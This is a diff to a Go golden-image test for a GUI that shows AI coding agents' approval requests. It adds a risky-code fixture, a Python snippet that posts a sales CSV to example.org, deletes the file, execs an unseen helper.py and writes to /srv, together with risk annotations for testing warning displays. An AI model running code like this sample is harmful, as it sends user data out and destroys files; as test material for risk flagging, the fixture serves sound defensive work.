@@ -79,6 +79,11 @@ func ctrl(k fyne.KeyName) *desktop.CustomShortcut {
 func TestApprovalGoldens(t *testing.T) {
 	one := []catalog.Approval{question("1", "claude-code 2.1.0", riskyCode)}
 	three := append([]catalog.Approval{}, one...)
+	risky := question("1", "claude-code 2.1.0", "import os, requests\nimport pandas as pd\n\ndf = pd.read_csv(\"sales.csv\")\nrequests.post(\"https://example.org\", data=df.to_csv())\nos.remove(\"sales.csv\")\nexec(open(\"helper.py\").read())\ndf.to_csv(\"/srv/sales.csv\")")
+	risky.Risks = []catalog.Risk{
+		{Kind: "network", Line: 5, What: "requests.post"}, {Kind: "files", Line: 6, What: "os.remove"}, {Kind: "unseen", Line: 7, What: "exec"},
+		{Kind: "files", Line: 8, What: "df.to_csv /srv/sales.csv"},
+	}
 	three = append(three, question("2", "Cursor 1.9", "2"), question("3", "Cursor 1.9", "3"))
 	for name, c := range map[string]struct {
 		size fyne.Size
@@ -102,6 +107,10 @@ func TestApprovalGoldens(t *testing.T) {
 		"ask_returned_ja_dark": {wide, one, func(s *state.Snapshot) {
 			s.Settings.Language, s.Settings.Theme, s.Approvals = "ja", "dark", slices.Clone(s.Approvals)
 			s.Approvals[0].Returned = true
+		}, nil},
+		"ask_risks": {wide, []catalog.Approval{risky}, func(s *state.Snapshot) { s.Settings.Access = "ask_risky" }, nil},
+		"ask_risks_ja_dark_narrow": {narrowed, []catalog.Approval{risky}, func(s *state.Snapshot) {
+			s.Settings.Access, s.Settings.Language, s.Settings.Theme = "ask_risky", "ja", "dark"
 		}, nil},
 		"ask_on_settings": {narrowed, one, func(*state.Snapshot) {}, func(w *world) { w.app.shell.open(pageSettings) }},
 	} {
